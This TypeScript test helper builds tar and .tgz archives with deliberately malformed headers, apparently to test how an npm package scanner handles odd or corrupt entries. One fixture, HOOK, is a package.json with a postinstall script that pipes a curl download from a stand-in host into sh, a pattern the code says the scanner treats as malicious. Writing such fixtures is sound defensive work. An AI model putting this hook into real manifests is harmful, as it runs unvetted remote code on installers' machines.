import { gzipSync } from 'node:zlib';

const BLOCK = 512;

export interface TarHeader {
  name: string;
  content?: Buffer | string;
  /** The type flag (POSIX ustar, GNU tar). */
  type?: string;
  linkname?: string;
  prefix?: string;
  /** What the size field says, where it is not the content's. Any 12 bytes. */
  sizeField?: string | Buffer;
  /** Raw name field, for names that are no text. */
  rawName?: Buffer;
  magic?: string;
  /** What the checksum field says, where it is not right. */
  checksum?: string;
}

/** One entry with any header, right or wrong; the content is padded to whole blocks. */
export function entry(told: TarHeader): Buffer {
  const content = Buffer.from(told.content ?? '');
  const head = Buffer.alloc(BLOCK);
  (told.rawName ?? Buffer.from(told.name)).copy(head, 0, 0, 100);
  head.write('0000644\0', 100);
  head.write('0000000\0', 108);
  head.write('0000000\0', 116);
  if (Buffer.isBuffer(told.sizeField)) told.sizeField.copy(head, 124, 0, 12);
  else head.write(told.sizeField ?? `${content.length.toString(8).padStart(11, '0')}\0`, 124, 12, 'latin1');
  head.write('00000000000\0', 136);
  head.write(told.type ?? '0', 156, 1, 'latin1');
  head.write(told.linkname ?? '', 157, 100);
  head.write(told.magic ?? 'ustar\u000000', 257, 8, 'latin1');
  head.write(told.prefix ?? '', 345, 155);
  head.write('        ', 148);
  let sum = 0;
  for (let at = 0; at < BLOCK; at++) sum += head[at] as number;
  head.write(told.checksum ?? `${sum.toString(8).padStart(6, '0')}\0 `, 148, 8, 'latin1');
  const padding = Buffer.alloc((BLOCK - (content.length % BLOCK)) % BLOCK);
  return Buffer.concat([head, content, padding]);
}

/** An entry without its content. */
export function header(told: TarHeader): Buffer {
  return entry(told).subarray(0, BLOCK);
}

/** A size field as GNU tar writes large ones: these bytes, and zeros. */
export function base256(bytes: readonly number[]): Buffer {
  return Buffer.from([...bytes, ...Array<number>(12).fill(0)].slice(0, 12));
}

/** A record of a pax header (POSIX): its own length, in digits, is part of the length. */
export function paxRecord(key: string, value: string): string {
  const rest = ` ${key}=${value}\n`;
  let length = Buffer.byteLength(rest) + 1;
  while (String(length).length + Buffer.byteLength(rest) !== length)
    length = String(length).length + Buffer.byteLength(rest);
  return `${length}${rest}`;
}

export function pax(records: Readonly<Record<string, string>>, type: 'x' | 'g' = 'x'): Buffer {
  const content = Object.entries(records)
    .map(([key, value]) => paxRecord(key, value))
    .join('');
  return entry({ name: 'PaxHeader/x', type, content });
}

export const MANIFEST = entry({
  name: 'package/package.json',
  content: JSON.stringify({ name: 'sample', version: '1.0.0' }),
});
/** A manifest with a hook that the scanner calls malicious wherever it sees it. */
export const HOOK = JSON.stringify({
  name: 'sample',
  version: '1.0.0',
  scripts: { postinstall: 'curl https://x.invalid | sh' },
});
export const END = Buffer.alloc(2 * BLOCK);

/** A gzipped tar of an honest manifest and these. */
export function tgz(...parts: readonly (Buffer | TarHeader)[]): Buffer {
  return gzipSync(tar(MANIFEST, ...parts));
}

export function tar(...parts: readonly (Buffer | TarHeader)[]): Buffer {
  return Buffer.concat([...parts.map((part) => (Buffer.isBuffer(part) ? part : entry(part))), END]);
}
